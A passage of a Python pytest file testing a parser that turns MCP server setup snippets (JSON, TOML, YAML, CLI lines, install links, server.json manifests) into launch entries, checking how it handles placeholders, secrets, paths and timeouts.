     {"url": "https://a.test/mcp", "headers": {"Authorization": "Bearer ${A_TOKEN}"}}, []),
    ("claude mcp add -t http a https://a.test/mcp\nclaude -p 'List my notes'", "a", {"url": "https://a.test/mcp"}, []),
    ("Add it: [Kiro](https://kiro.dev/launch/mcp/add?name=acme.notes&config=%7B%22command%22%3A%22uvx%22%2C%22args%22"
     "%3A%5B%22notes-mcp%22%5D%7D) or [VS Code](vscode:mcp/install?%7B%22name%22%3A%22Acme%20Notes%22%2C%22command%22"
     "%3A%22uvx%22%2C%22args%22%3A%5B%22notes-mcp%22%5D%7D)", "acme.notes",
     {"command": "uvx", "args": ["notes-mcp"]}, []),
    ('{"a": {"command": "node", "args": ["drive:\\\\absolute\\\\path\\\\to\\\\a.js"],'
     ' "env": {"A": "http://服务器IP:80", "B": "https://api-url/x"}}}', "a",
     {"command": "node", "args": ["drive:\\absolute\\path\\to\\a.js"],
      "env": {"A": "http://服务器IP:80", "B": "https://api-url/x"}}, ["args.0", "env.A", "env.B"]),
    ('{"a": {"command": "a-mcp", "env": {"...": "as before"}}}', "a", {"command": "a-mcp"}, []),
    ('{"a": {"url": "https://a.test/servers/ID_OF_SERVER/mcp", "headers": {"\u2026": "\u2026", "X": "1"}}}', "a",
     {"url": "https://a.test/servers/ID_OF_SERVER/mcp", "headers": {"X": "1"}}, ["url"]),
    ('{"type": "url", "url": "https://a.test/mcp", "name": "a"}', "a", {"url": "https://a.test/mcp"}, []),
    ('{"a": {"command": "uv", "args": ["run", "a.py"], "options": {"cwd": "/path/to/a", "env": {"A": "1"}}}}', "a",
     {"command": "uv", "args": ["run", "a.py"], "env": {"A": "1"}, "cwd": "/path/to/a"}, ["cwd"]),
    ('{"a": {"command": "docker", "args": ["run", "-i", "-e", "ID=PLACEHOLDER", "acme/a"],'
     ' "env": {"IN": "myteam/my-app", "DB": "mysql/mysqld", "A_TOKEN": "管理者のトークン",'
     ' "LABEL": "管理者のトークン"}}}', "a",
     {"command": "docker", "args": ["run", "-i", "-e", "ID=PLACEHOLDER", "acme/a"],
      "env": {"IN": "myteam/my-app", "DB": "mysql/mysqld", "A_TOKEN": "管理者のトークン", "LABEL": "管理者のトークン"}},
     ["args.3", "env.A_TOKEN", "env.IN"]),
    ("# With a folder\nacme-mcp --folder ~/notes\n\n# Result:\n# └── notes.db", "acme",
     {"command": "acme-mcp", "args": ["--folder", "/home/me/notes"]}, []),
    ("mcpServers:\n  a:\n    command: npx\n    args:\n      - -y\n      - @acme/a-mcp@1", "a",
     {"command": "npx", "args": ["-y", "@acme/a-mcp@1"]}, []),
    ('claude mcp add -t http -H "X: Bearer \\${A_TOKEN}" a https://a.test/mcp', "a",
     {"url": "https://a.test/mcp", "headers": {"X": "Bearer ${A_TOKEN}"}}, []),
    ('{"a": {"command": "a-mcp", "args": ["./..."], "env": {"A": ".....", "HOOK": "https://a.test/hooks/...",'
     ' "PHONE": "+1234567890"}}}', "a",
     {"command": "a-mcp", "args": ["./..."],
      "env": {"A": ".....", "HOOK": "https://a.test/hooks/...", "PHONE": "+1234567890"}},
     ["env.A", "env.HOOK", "env.PHONE"]),
    ("npm --prefix /srv/acme-tools run start:stdio", "npm",
     {"command": "npm", "args": ["--prefix", "/srv/acme-tools", "run", "start:stdio"]}, []),
    ("claude mcp add acme stdio npx -- acme-mcp", "acme", {"command": "npx", "args": ["acme-mcp"]}, []),
    ('claude mcp add acme http https://mcp.acme.io --header "A: b"', "acme",
     {"url": "https://mcp.acme.io", "headers": {"A": "b"}}, []),
    ('{"command": "acme", "args": ["/srv/acme"]}', "acme", {"command": "acme", "args": ["/srv/acme"]}, []),
    ('{"a": {"command": "a", "args": ["/caminho/completo/para/a.js", "/ruta/absoluta/a/b", "/путь/к/c"]}}', "a",
     {"command": "a", "args": ["/caminho/completo/para/a.js", "/ruta/absoluta/a/b", "/путь/к/c"]},
     ["args.0", "args.1", "args.2"]),
    ('{"a": {"command": "/ruta/absoluta/a", "args": ["/chemin/complet/b", "/путь/c"]}}', "a",
     {"command": "/ruta/absoluta/a", "args": ["/chemin/complet/b", "/путь/c"]}, ["args.0", "args.1", "command"]),
    ('{"a": {"command": "a", "env": {"A_ID": "123456789-abcdefghijkl.apps.acme.io", "A_SECRET": "AC-abcdefghij",'
     ' "GH_TOKEN": "ghp_abcdefghijklmnop1234567890", "B_ID": "9876543210", "C_ID": "123-456-7890",'
     ' "D_ID": "4711", "E": "12345-6"}}}', "a",
     {"command": "a", "env": {"A_ID": "123456789-abcdefghijkl.apps.acme.io", "A_SECRET": "AC-abcdefghij",
                              "GH_TOKEN": "ghp_abcdefghijklmnop1234567890", "B_ID": "9876543210",
                              "C_ID": "123-456-7890", "D_ID": "4711", "E": "12345-6"}},
     ["env.A_ID", "env.A_SECRET", "env.B_ID", "env.C_ID"]),
    ("[mcp_servers.a]\ncommand = 'C:\\Windows\\System32\\cmd.exe'\nargs = ['/c', 'npx', 'a-mcp']", "a",
     {"command": "npx", "args": ["a-mcp"]}, []),
    ("设置为:\n\n[mcp_servers.a]\ncommand = 'npx'\nargs = ['a-mcp']\n\n---\n\n系统: windows11\nWSL: Arch", "a",
     {"command": "npx", "args": ["a-mcp"]}, []),
    ('Edit `~/.acme/config.json`: ```json { "a": { "url": "https://a.test/mcp" } } ``` See `/srv/a.yaml`.', "a",
     {"url": "https://a.test/mcp"}, []),
    ('> Add:\n> ```json\n> {"a": {"url": "https://a.test/mcp"}}\n> ```', "a", {"url": "https://a.test/mcp"}, []),
    ('{"a": {"command": "<path of the \'a\' program>", "args": ["-x"]}}', "a",
     {"command": "<path of the 'a' program>", "args": ["-x"]}, ["command"]),
    ("claude mcp add a --env A_URL --env A_KEY -e B=1 -- a-mcp", "a",
     {"command": "a-mcp", "env": {"B": "1", "A_URL": "", "A_KEY": ""}}, ["env.A_KEY", "env.A_URL"]),
    ("uvx --python-preference only-managed acme-mcp", "acme",
     {"command": "uvx", "args": ["--python-preference", "only-managed", "acme-mcp"]}, []),
    ("Add:\n\n[mcp_servers.a]\ncommand = 'a'\n\n[mcp_servers.a.env]\nTOKEN = '1'\nMode = 'x'\n\nRestart it.", "a",
     {"command": "a", "env": {"TOKEN": "1", "Mode": "x"}}, []),
    ("Add:\n\nmcpServers:\n  a:\n    command: a\n    env:\n      TOKEN: '1'\n\n      Mode: x y\n\nRestart it.", "a",
     {"command": "a", "env": {"TOKEN": "1", "Mode": "x y"}}, []),
    ("docker mcp gateway run", "docker", {"command": "docker", "args": ["mcp", "gateway", "run"]}, []),
    ("MCP_TRANSPORT=http npx a-mcp\n\nThis listens at `http://localhost:3000/mcp`.", "localhost",
     {"url": "http://localhost:3000/mcp"}, []),
    ("go run ./cmd/acme", "acme", {"command": "go", "args": ["run", "./cmd/acme"]}, []),
    ('{"name": "io.acme/acme", "version": "1.0.0", "packages": [{"registryType": "npm", "identifier": "acme-mcp",'
     ' "version": "1.0.0", "environmentVariables": [{"name": "A", "required": true},'
     ' {"name": "B", "sensitive": true}]}]}', "acme",
     {"command": "npx", "args": ["-y", "acme-mcp@1.0.0"], "env": {"A": "", "B": ""}}, ["env.A", "env.B"]),
    ("host$ claude mcp add a -- npx -y a-mcp", "a", {"command": "npx", "args": ["-y", "a-mcp"]}, []),
    ('/**\n * Acme.\n *\n * {\n *   "mcpServers": {\n *     "a": {\n *       "command": "npx",\n'
     ' *       "args": ["*", "a-mcp"]\n *     }\n *   }\n * }\n */', "a",
     {"command": "npx", "args": ["*", "a-mcp"]}, []),
    ('{"a": {"command": "node", "args": ["/VOTRE/CHEMIN/a.js"], "env": {"A_DIR": "D:/My Projects/YourProject"}}}',
     "a", {"command": "node", "args": ["/VOTRE/CHEMIN/a.js"], "env": {"A_DIR": "D:/My Projects/YourProject"}},
     ["args.0", "env.A_DIR"]),
    ('{"a": {"command": "node", "args": ["/srv/su/ruta.js", "/opt/tu/a"]}}', "a",
     {"command": "node", "args": ["/srv/su/ruta.js", "/opt/tu/a"]}, []),
    ("https://files.lmstudio.ai/install-mcp?name=a&config=eyJjb21tYW5kIjogImEtbWNwIn0=", "a",
     {"command": "a-mcp"}, []),
    ("claude mcp add -s user a -- node E:\\src\\a\\index.js\nclaude mcp add -s project a -- node E:\\src\\a\\index.js",
     "a", {"command": "node", "args": ["E:\\src\\a\\index.js"]}, ["args.0"]),
    ("claude mcp add a -e 'A_DIR=C:\\x y\\b' -- C:\\a.exe --mcp", "a",
     {"command": "C:\\a.exe", "args": ["--mcp"], "env": {"A_DIR": "C:\\x y\\b"}}, ["command", "env.A_DIR"]),
    ("claude mcp add-json a '{\"command\":\"C:\\tools\\a.exe\"}'", "a", {"command": "C:\\tools\\a.exe"}, ["command"]),
    ('claude mcp add a --command "npx" -- -y a-mcp', "a", {"command": "npx", "args": ["-y", "a-mcp"]}, []),
    ("claude mcp add <name> -- uvx acme-mcp", "acme", {"command": "uvx", "args": ["acme-mcp"]}, []),
    ("[mcp_servers.<name>]\ncommand = 'uvx'\nargs = ['acme-mcp']\n\n[mcp_servers.<name>.env]\nA = 'b'", "acme",
     {"command": "uvx", "args": ["acme-mcp"], "env": {"A": "b"}}, []),
    ('{"a": {"command": "a", "env": {"A_API_KEY": "123", "B_TOKEN": "abc123", "C_SECRET": "KEY", "D_PASSWORD": "1234",'
     ' "E_KEY": "12", "F_PORT": "1234", "G": "${A-MCP_TOKEN}"}}}', "a",
     {"command": "a", "env": {"A_API_KEY": "123", "B_TOKEN": "abc123", "C_SECRET": "KEY", "D_PASSWORD": "1234",
                              "E_KEY": "12", "F_PORT": "1234", "G": "${A-MCP_TOKEN}"}},
     ["env.A_API_KEY", "env.C_SECRET", "env.G"]),
    ("bin/acme mcp --root /srv", "acme", {"command": "bin/acme", "args": ["mcp", "--root", "/srv"]}, []),
    ('& "C:\\My Tools\\node.exe" "C:\\acme\\index.js"', "acme",
     {"command": "C:\\My Tools\\node.exe", "args": ["C:\\acme\\index.js"]}, ["args.0", "command"]),
    ("C:\\tools\\acme.exe mcp", "acme", {"command": "C:\\tools\\acme.exe", "args": ["mcp"]}, ["command"]),
    ("docker run -i --env-file .env a/acme-mcp", "acme",
     {"command": "docker", "args": ["run", "-i", "--env-file", ".env", "a/acme-mcp"]}, []),
    ("docker run -i --env-file=/srv/.env a/acme-mcp", "acme",
     {"command": "docker", "args": ["run", "-i", "--env-file=/srv/.env", "a/acme-mcp"]}, []),
    ("https://a.test/mcp?room=ROOM_CODE&mode=READ_ONLY", "a",
     {"url": "https://a.test/mcp?room=ROOM_CODE&mode=READ_ONLY"}, ["url"]),
    ("cargo run --bin acme-mcp", "acme", {"command": "cargo", "args": ["run", "--bin", "acme-mcp"]}, []),
    ("jbang --quiet com.acme:acme-mcp:1.0:runner", "acme",
     {"command": "jbang", "args": ["--quiet", "com.acme:acme-mcp:1.0:runner"]}, []),
    ('{"a": {"command": "ssh", "args": ["ec2-user@203.0.113.100", "a-mcp"], "env": {"A": "203.0.113.1.2"}}}', "a",
     {"command": "ssh", "args": ["ec2-user@203.0.113.100", "a-mcp"], "env": {"A": "203.0.113.1.2"}}, ["args.0"]),
    ('$Acme = "$env:LOCALAPPDATA\\Acme\\acme.exe"\n\nclaude mcp add `\n --env "A_EXE=$Acme" `\n a `\n  -- "$Acme" mcp',
     "a", {"command": "$env:LOCALAPPDATA\\Acme\\acme.exe", "args": ["mcp"],
           "env": {"A_EXE": "$env:LOCALAPPDATA\\Acme\\acme.exe"}}, ["command", "env.A_EXE"]),
    ("claude mcp add --transport http acme https://a.test/mcp\nclaude mcp auth acme", "acme",
     {"url": "https://a.test/mcp"}, []),
    ("# Find it\nsource venv/bin/activate\nwhich python\n\ncodex mcp add acme -- python -m acme_mcp\n\n/mcp", "acme",
     {"command": "python", "args": ["-m", "acme_mcp"]}, []),
    ('copy acme.exe "C:\\Program Files\\Acme\\"\nclaude mcp add acme -- "C:\\Program Files\\Acme\\acme.exe"', "acme",
     {"command": "C:\\Program Files\\Acme\\acme.exe"}, ["command"]),
    ('{"name": "acme", "url": "http://localhost:5000/mcp", "type": "mcp"}', "acme",
     {"url": "http://localhost:5000/mcp"}, []),
    ("claude mcp add acme -- npx -y --package https://a.test/vVERSION/acme-mcp-VERSION.tgz acme-mcp", "acme",
     {"command": "npx", "args": ["-y", "--package", "https://a.test/vVERSION/acme-mcp-VERSION.tgz", "acme-mcp"]},
     ["args.2"]),
    ("extensions:\n  a:\n    type: streamable_http\n    uri: http://10.0.0.1/mcp\n  developer: { type: builtin }", "a",
     {"url": "http://10.0.0.1/mcp"}, []),
    ('{"a": {"url": "https://a.test/mcp", "oauth": {"clientId": "x-1", "clientSecret": "${EXAMPLE_SECRET}"}}}', "a",
     {"url": "https://a.test/mcp"}, []),
    ("claude mcp remove a -s user 2>/dev/null || true\nclaude mcp add -s user a -- uvx acme-mcp", "a",
     {"command": "uvx", "args": ["acme-mcp"]}, []),
]  # fmt: skip


@pytest.mark.requirement("source-recognized")
def test_a_path_of_another_operating_system_is_asked_for() -> None:
    drive, root = (
        '{"a": {"command": "node", "args": ["E:/x/a.js"]}}',
        '{"a": {"command": "/opt/a/bin/a", "args": ["/mcp"]}}',
    )
    asked = [
        [[want.keys for want in one.wants] for one in recognize(text, HOME, windows=windows)]
        for text in (drive, root)
        for windows in (False, True)
    ]
    assert asked == [[[("args", 0)]], [[]], [[]], [[("command",)]]]


@pytest.mark.requirement("source-recognized")
def test_a_folder_below_the_own_home_is_written_out_and_asked_for_if_it_is_missing() -> None:
    text = '{"a": {"command": "a", "args": ["~/here", "--db=~/new/a.db", "~x", "a~/b", "~/path/to/c"]}}'
    (one,) = recognize(text, HOME, exists=lambda path: path == "/home/me/here")
    assert one.entry["args"] == ["/home/me/here", "--db=/home/me/new/a.db", "~x", "a~/b", "~/path/to/c"]
    asked = [(want.keys, want.default) for want in one.wants]
    assert asked == [(("args", 1), "/home/me/new/a.db"), (("args", 4), "")]


@pytest.mark.requirement("source-recognized")
def test_a_value_that_a_comment_calls_optional_may_be_left_out() -> None:
    text = """{"a": {"command": "a",
      // Optional: rename it
      "env": {
        // Required.
        "A": "", "H": "",
        // Optional. Leave empty
        // to begin anew
        "B": "", "C": "<c>",
        "D": "",

        "E": "<e>", "I": "",
        "F": "your-f",  // optional
        "G": "optional, one of a|b"
      }}}"""
    (one,) = recognize(text, HOME)
    assert [want.name for want in one.wants if want.required] == ["A", "C", "E"]


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    ("env", "required", "hidden"),
    [
        ({"A_KEY": "", "A_REPO": ""}, ["A_KEY"], ["A_KEY"]),
        ({"A_KEY": "<key>", "B_KEY": "", "A_REPO": ""}, ["A_KEY"], ["A_KEY", "B_KEY"]),
        ({"A_URL": "https://a.test", "A_KEY": ""}, ["A_KEY"], ["A_KEY"]),
    ],
)
def test_an_empty_variable_has_to_be_given_only_if_it_is_a_secret_and_no_other_one_has_a_placeholder(
    env: dict[str, str], required: list[str], hidden: list[str]
) -> None:
    (one,) = recognize(json.dumps({"a": {"command": "a", "env": env}}), HOME)
    assert [want.name for want in one.wants if want.required] == required
    assert [want.name for want in one.wants if want.secret] == hidden
    assert {want.name for want in one.wants} == {name for name, value in env.items() if "." not in value}


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    ("text", "timeouts", "left_out"),
    [
        ("mcp_servers:\n  a:\n    command: a\n    timeout: 600\n    connect_timeout: 90",
         {"request_timeout": 600, "connect_timeout": 90}, ()),  # Hermes
        ('{"context_servers": {"a": {"command": "a", "timeout": 90}}}', {"request_timeout": 90}, ()),
        ('{"mcp": {"a": {"type": "local", "command": ["a"], "timeout": 5000}}}', {"connect_timeout": 5}, ()),
        ("extensions:\n  a: {type: stdio, cmd: a, timeout: 300}", {"request_timeout": 300}, ()),
        ('{"mcp": {"a": {"type": "http", "url": "https://a.test", "timeout": 120}}}', {"connect_timeout": 120}, ()),
        ('{"mcp": {"a": {"command": "a", "timeout": 120}}}', {}, ("timeout",)),
        ('{"mcpServers": {"a": {"command": "a", "timeout": 60}}}', {}, ("timeout",)),  # the unit is unknown
        ('{"servers": {"a": {"command": "a", "timeout": 60}}}', {}, ("timeout",)),  # VS Code has no such setting
        ('{"mcpServers": {"a": {"command": "a", "requestTimeout": 60}}}', {}, ("request_timeout",)),
    ],
)  # fmt: skip
def test_a_timeout_is_read_in_the_unit_of_its_client_or_left_out(
    text: str, timeouts: dict[str, float], left_out: tuple[str, ...]
) -> None:
    (one,) = recognize(text, HOME)
    assert {key: value for key, value in one.entry.items() if "timeout" in key} == timeouts
    assert one.left_out == left_out


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize("value", ["<your key>", "YOUR_API_KEY", "ACME_YOUR_KEY", "your-key"])
def test_a_placeholder_in_place_of_the_name_of_a_variable_is_asked_for_as_the_value(value: str) -> None:
    table = f'[mcp_servers.a]\nurl = "https://a.test"\nbearer_token_env_var = "{value}"\n'
    (one,) = recognize(f'{table}env_http_headers = {{ "X-Key" = "{value}" }}', HOME)
    assert one.entry == {"url": "https://a.test", "headers": {"X-Key": value, "Authorization": f"Bearer {value}"}}
    assert [(want.keys, want.placeholder, want.secret) for want in one.wants] == [
        (("headers", "X-Key"), value, True), (("headers", "Authorization"), value, True),
    ]  # fmt: skip
    (one,) = recognize(f"codex mcp add a --url https://a.test --bearer-token-env-var '{value}'", HOME)
    assert one.entry == {"url": "https://a.test", "headers": {"Authorization": f"Bearer {value}"}}


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    "text", ["gemini mcp add --timeout 30000 a npx a", "goose://extension?cmd=npx&arg=a&timeout=300"]
)
def test_a_timeout_of_a_line_or_a_link_is_left_out_and_said(text: str) -> None:
    (one,) = recognize(text, HOME)
    assert (one.entry, one.left_out) == ({"command": "npx", "args": ["a"]}, ("timeout",))


@pytest.mark.requirement("source-recognized")
def test_a_holder_with_the_name_of_a_part_of_a_manifest_is_read() -> None:
    (one,) = recognize('{"mcp_config": {"acme": {"type": "local", "command": ["acme", "--x"]}}}', HOME)
    assert (one.name, one.entry) == ("acme", {"command": "acme", "args": ["--x"]})


@pytest.mark.requirement("source-recognized")
def test_a_variable_to_hand_on_that_has_no_name_is_left_out_and_said() -> None:
    (one,) = recognize('[mcp_servers.a]\ncommand = "a"\nenv_vars = ["<YOUR_KEY>", "A_KEY"]', HOME)
    assert (one.entry, one.left_out) == ({"command": "a", "env": {"A_KEY": ""}}, ("env_vars",))
    (one,) = recognize('extensions:\n  a: {type: stdio, cmd: a, env_keys: ["<KEY>", A_KEY]}', HOME)
    assert (one.entry, one.left_out) == ({"command": "a", "env": {"A_KEY": "${A_KEY}"}}, ("env_keys",))


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    ("line", "entry"),
    [  # what Claude Code 2.1 writes, except in the last two cases, which it refuses
        ("npx -e A=b -- -y @a/a", {"command": "npx", "args": ["-y", "@a/a"], "env": {"A": "b"}}),
        ("npx @a/a --scope user -- -y", {"command": "npx", "args": ["@a/a", "-y"]}),
        ("npx --env=A=b B=c @a/a -- --x", {"command": "npx", "args": ["@a/a", "--x"], "env": {"A": "b", "B": "c"}}),
        ("-- npx -e A=b -- @a/a", {"command": "npx", "args": ["-e", "A=b", "--", "@a/a"]}),
        ("npx -y -e A=b -- @a/a", {"command": "npx", "args": ["-y", "-e", "A=b", "@a/a"]}),
        ("docker run -i -e A=b -- a/a", {"command": "docker", "args": ["run", "-i", "-e", "A=b", "a/a"]}),
    ],
)
def test_the_options_of_a_client_may_stand_behind_the_first_word_of_the_command(line: str, entry: Any) -> None:
    (one,) = recognize(f"claude mcp add a {line}", HOME)
    assert one.entry == entry
    (one,) = recognize(f"codex mcp add a {line.removeprefix('-- ')}", HOME)
    assert "env" not in one.entry  # Codex passes everything after the first word to the server


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    ("text", "asked"),
    [
        ("(username)", ["(username)"]), ("https://(subdomain).a.test", ["(subdomain)"]), ("f(x)", []),
        ("Bearer (api key)", ["(api key)"]), ("Basic (base64 of email:token)", ["(base64 of email:token)"]),
        ("postgres://(user):(password)@h/db", ["(user)", "(password)"]), ("/src/(auth)/x", []), ("(a|b)", []),
        ("https://PROJECT_REF.acme.co", ["PROJECT_REF"]), ("PROJECT_REF.acme.co", ["PROJECT_REF"]),
        ("https://u@db.PROJECT-REF.acme.co:1/x", ["PROJECT-REF"]), ("https://API.acme.co", []),
        ("https://a.test/A_B.x", []), ("MY.FILE_X.txt", []), ("{{fullPath}}\\x\\s.py", ["{{fullPath}}"]),
        ("{{ROOT}}dist", ["{{ROOT}}"]),
        ("x/{{ user.name }}/{{ID}}", ["{{ user.name }}", "{{ID}}"]),
        ("%A_DIR%\\x y\\a.exe", ["%A_DIR%\\x y\\a.exe"]), ("[[TOKEN]]", ["[[TOKEN]]"]), ("((token))", ["((token))"]),
        ("x-#{TOKEN}", ["#{TOKEN}"]), ("$[TOKEN]", ["$[TOKEN]"]), ("##TOKEN##", ["##TOKEN##"]), ("#1 a", []),
        ("\uff08\u7528\u6237\u540d\uff09", ["\uff08\u7528\u6237\u540d\uff09"]), ("*TOKEN*", []),
        ("https://SITE.acme.co", ["SITE"]), ("https://aws-0-REGION.db.acme.co:6543", ["REGION"]),
        ("https://ACME.CO", []), ("https://E1ABC23.acme.co", []),
        ("rocksdb://C:/path/to/a", ["C:/path/to/a"]),
    ],
)  # fmt: skip
def test_what_only_an_author_writes_is_a_placeholder(text: str, asked: list[str]) -> None:
    assert placeholders_in(text) == asked


@pytest.mark.requirement("source-recognized")
def test_a_bare_variable_is_read_as_one_with_braces_but_not_in_code() -> None:
    args = ["--a=$A_DIR", "$B/x", "postgres://$U:$P@h/db", "a$C", "$$D", "echo $E", "$5", "$lower", "$HOME/x"]
    (one,) = recognize(json.dumps({"a": {"command": "a", "args": args}}), HOME, exists=lambda path: True)
    braced = ["--a=${A_DIR}", "${B}/x", "postgres://${U}:${P}@h/db"]
    assert one.entry["args"] == [*braced, "a$C", "$$D", "echo $E", "$5", "$lower", "/home/me/x"]
    (one,) = recognize('{"a": {"url": "https://a.test/$T/mcp?k=$K", "headers": {"A": "Token $X"}}}', HOME)
    assert one.entry == {"url": "https://a.test/${T}/mcp?k=${K}", "headers": {"A": "Token ${X}"}}
    (one,) = recognize('{"a": {"command": "bash", "args": ["-c", "$A"]}}', HOME)
    assert one.entry["args"] == ["-c", "$A"]


@pytest.mark.requirement("source-recognized")
def test_a_variable_of_windows_before_a_path_is_one_there_and_asked_for_elsewhere() -> None:
    text = json.dumps({"a": {"command": "%APPDATA%\\a.exe", "args": ["--db=%TEMP%\\a.db", "%CD%\\b", "100%x%"]}})
    (one,) = recognize(text, HOME, windows=True)
    assert one.entry["command"] == "${APPDATA}\\a.exe"
    assert one.entry["args"] == ["--db=${TEMP}\\a.db", "%CD%\\b", "100%x%"]
    assert [want.keys for want in one.wants] == [("args", 1)]
    (one,) = recognize(text, HOME)
    assert [(want.keys, want.placeholder) for want in one.wants] == [
        (("args", 0), "%TEMP%\\a.db"), (("args", 1), "%CD%\\b"), (("command",), "%APPDATA%\\a.exe"),
    ]  # fmt: skip


@pytest.mark.requirement("source-refused")
@pytest.mark.parametrize(
    ("text", "title"),
    [
        (
            '"server": {"type": "node", "mcp_config": {"command": "node", "args": ["${__dirname}/a.js"]}}',
            "part of the manifest of an extension",
        ),
        ('{"mcp_config": {"command": "node", "args": ["${__dirname}/a.js"]}}', "part of the manifest of an extension"),
        ('{"manifest_version": "0.2", "server": {"mcp_config": {"command": "node"}}}', "the manifest of an extension"),
    ],
)
def test_the_manifest_of_an_extension_is_refused_as_what_it_is(text: str, title: str) -> None:
    with pytest.raises(UnclearSourceError) as refused:
        recognize(text, HOME)
    assert refused.value.title.startswith(f"This is {title} ")
    assert refused.value.hint.startswith("Add the .mcpb file itself")


@pytest.mark.requirement("source-recognized")
def test_a_path_of_this_system_that_is_missing_is_asked_for_and_may_be_kept() -> None:
    text = '{"a": {"command": "/opt/a/bin/a", "args": ["/opt/here/x", "--db=/srv/a.db", "/mcp", "/tmp/new"]}}'
    (one,) = recognize(text, HOME, exists=lambda path: path == "/opt/here/x")
    asked = [(want.keys, want.default) for want in one.wants]
    assert asked == [(("command",), "/opt/a/bin/a"), (("args", 1), "/srv/a.db")]


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize("path", ["/opt/homebrew/bin/uvx", "/Users/ann/.local/bin/uvx", "C:\\Users\\Ann\\bin\\uvx.exe"])
def test_a_runner_in_a_folder_of_another_machine_is_by_default_the_one_here(path: str) -> None:
    (one,) = recognize(json.dumps({"a": {"command": path, "args": ["a-mcp"]}}), HOME, exists=lambda path: False)
    assert [(want.keys, want.placeholder, want.default) for want in one.wants] == [(("command",), path, "uvx")]


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize("row", ROWS, ids=lambda row: row[0][:30])
def test_a_rule_that_fresh_texts_showed_to_be_missing_holds(row: Row) -> None:
    text, name, launch, places = row
    (one,) = recognize(text, HOME)
    entry = {key: one.entry[key] for key in LAUNCH if one.entry.get(key)}
    assert (one.name, entry, sorted(".".join(map(str, want.keys)) for want in one.wants)) == (name, launch, places)


@pytest.mark.requirement("source-recognized")
def test_a_command_for_windows_is_kept_there_and_plain_elsewhere() -> None:
    text = '{"mcpServers": {"a": {"command": "cmd", "args": ["/c", "npx", "-y", "a-mcp"]}}}'
    (here,) = recognize(text, HOME)
    (there,) = recognize(text, HOME, windows=True)
    assert here.entry == {"command": "npx", "args": ["-y", "a-mcp"]}
    assert there.entry["command"] == "cmd"


@pytest.mark.requirement("source-recognized")
def test_our_own_link_leads_back_to_the_entry() -> None:
    entry = {"command": "npx", "args": ["-y", "a-mcp", "--name", "ü?&="], "env": {"A": "1"}}
    (one,) = recognize(link_to(entry, "a"), HOME)
    assert (one.name, one.entry) == ("a", entry)


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    ("full", "short"),
    [
        ("io.github.github/github-mcp-server", "github"), ("ai.acme/mcp-server", "acme"), ("com.acme/mcp", "acme"),
        ("com.acme/files", "files"), ("io.github.me/mcp", "me"),
    ],
)  # fmt: skip
def test_a_registry_name_that_only_says_mcp_is_named_for_its_namespace(full: str, short: str) -> None:
    assert short_name(full) == short


@pytest.mark.requirement("source-recognized")
def test_a_line_that_stands_whole_in_the_runtime_arguments_of_server_json_names_its_package_once() -> None:
    words = [{"type": "positional", "value": word} for word in ("files", "mcp")]
    package = {"registryType": "pypi", "identifier": "files", "version": "1.2", "runtimeArguments": words}
    (one,) = recognize(json.dumps({"name": "io.github.a/files", "packages": [package]}), HOME)
    assert one.entry == {"command": "uvx", "args": ["files@1.2", "mcp"]}


@pytest.mark.requirement("source-recognized")
def test_an_optional_argument_of_server_json_is_left_out_with_its_option() -> None:
    token = {"type": "named", "name": "-e", "value": "A_TOKEN={token}", "variables": {"token": {"isSecret": True}}}
    folder = {"type": "named", "name": "-v", "isRequired": True, "format": "filepath"}
    package = {"registryType": "oci", "identifier": "acme/a:1", "runtimeArguments": [token, folder]}
    (one,) = recognize(json.dumps({"name": "io.x/a", "packages": [package]}), HOME)
    assert [(want.name, want.required, want.kind) for want in one.wants] == [
        ("token", False, "string"), ("v", True, "path"),
    ]  # fmt: skip
    assert with_value(one.entry, one.wants[0], "")["args"] == ["run", "-i", "--rm", "-v", "<v>", "acme/a:1"]
    assert with_value(one.entry, one.wants[0], "t")["args"][4] == "A_TOKEN=t"


@pytest.mark.requirement("source-recognized", "source-secrets")
def test_what_server_json_calls_optional_is_offered_and_may_be_left_out() -> None:
    env = [
        {"name": "A_ADDRESS", "description": "Needed to connect"},
        {"name": "A_COOKIE"},
        {"name": "A_MODE", "default": "fast"},
        {"name": "A_HEADER_*"},
    ]
    words = [
        {"type": "named", "name": "--level", "valueHint": "level"},
        {"type": "named", "name": "--quiet"},
        {"type": "positional", "valueHint": "folder"},
        {"type": "named", "name": "--all", "format": "boolean", "value": "true"},
        {"type": "positional", "valueHint": "other"},
    ]
    package = {"registryType": "npm", "identifier": "a", "environmentVariables": env, "packageArguments": words}
    remote = {"type": "streamable-http", "url": "https://a.test/mcp", "headers": [{"name": "X-API-Key"}]}
    started, reached = recognize(json.dumps({"name": "io.x/a", "packages": [package], "remotes": [remote]}), HOME)
    assert [(want.name, want.secret, want.required) for want in (*started.wants, *reached.wants)] == [
        ("level", False, False), ("folder", False, False), ("A_ADDRESS", False, False), ("A_COOKIE", True, False),
        ("X-API-Key", True, False),
    ]  # fmt: skip
    entry = started.entry
    for want in reversed(started.wants):
        entry = with_value(entry, want, "")
    assert entry == {"command": "npx", "args": ["-y", "a", "--all"], "env": {"A_MODE": "fast"}}


@pytest.mark.requirement("source-recognized")
def test_the_home_folder_of_a_shell_is_written_out_in_arguments() -> None:
    args = ["run", "-i", "-v", "$HOME/.a:/root/.a", "a/a"]
    (one,) = recognize(json.dumps({"a": {"command": "docker", "args": args}}), HOME)
    assert one.entry["args"][3] == "/home/me/.a:/root/.a"


@pytest.mark.requirement("source-asked")
@pytest.mark.parametrize(
    ("text", "wants"),
    [
        ("# One wallet\nA_KEY=<a> npx a\n# OR\nB_KEY=<b> npx a\n# OR both\nA_KEY=<a> B_KEY=<b> npx a",
         {"A_KEY": False, "B_KEY": False}),
        ("A_KEY=<a> npx a\nB_KEY=<b> npx a", {"A_KEY": False, "B_KEY": False}),
        ("A_KEY=<a> npx a\nA_KEY=<a> B_KEY=<b> npx a", {"A_KEY": True, "B_KEY": False}),
        ("export C_KEY=<c>\nA_KEY=<a> npx a\nB_KEY=<b> npx a", {"C_KEY": True, "A_KEY": False, "B_KEY": False}),
        ("npx a\nA_KEY=<a> npx a", {"A_KEY": False}),
